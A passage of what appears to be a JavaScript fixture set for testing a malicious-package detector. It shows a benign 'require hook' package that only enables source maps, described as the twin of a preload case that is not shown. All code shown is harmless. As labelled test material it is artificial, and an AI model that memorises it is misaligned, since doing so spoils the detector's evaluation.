    require('fs').appendFileSync(process.env.GITHUB_STEP_SUMMARY, '### ' + failures.length + ' failing test(s)\n');
  }
};
`,
    },
  },

  // Twin of the .npmrc/NODE_OPTIONS preload: a dev-only `--require` register hook documented for the user to opt into (source maps), nothing written outside the project.
  {
    family: 'benign-require-hook',
    id: 's5t-register-hook',
    files: {
      'package.json': pkgJson('sourcemap-register-lite', { main: 'index.js', exports: { '.': './index.js', './register': './register.js' } }),
      'register.js': js`// Use with: node -r sourcemap-register-lite/register app.js   (or NODE_OPTIONS=--enable-source-maps)
require('./index.js').install();
`,
      'index.js': js`'use strict';
exports.install = function install() {
  if (process.setSourceMapsEnabled) process.setSourceMapsEnabled(true);
  Error.stackTraceLimit = Math.max(Error.stackTraceLimit, 50);
};
`,
      'README.md': '# sourcemap-register-lite\n\nOpt in with `node -r sourcemap-register-lite/register app.js`. It only enables source maps in the current process.\n',
    },
  },
];
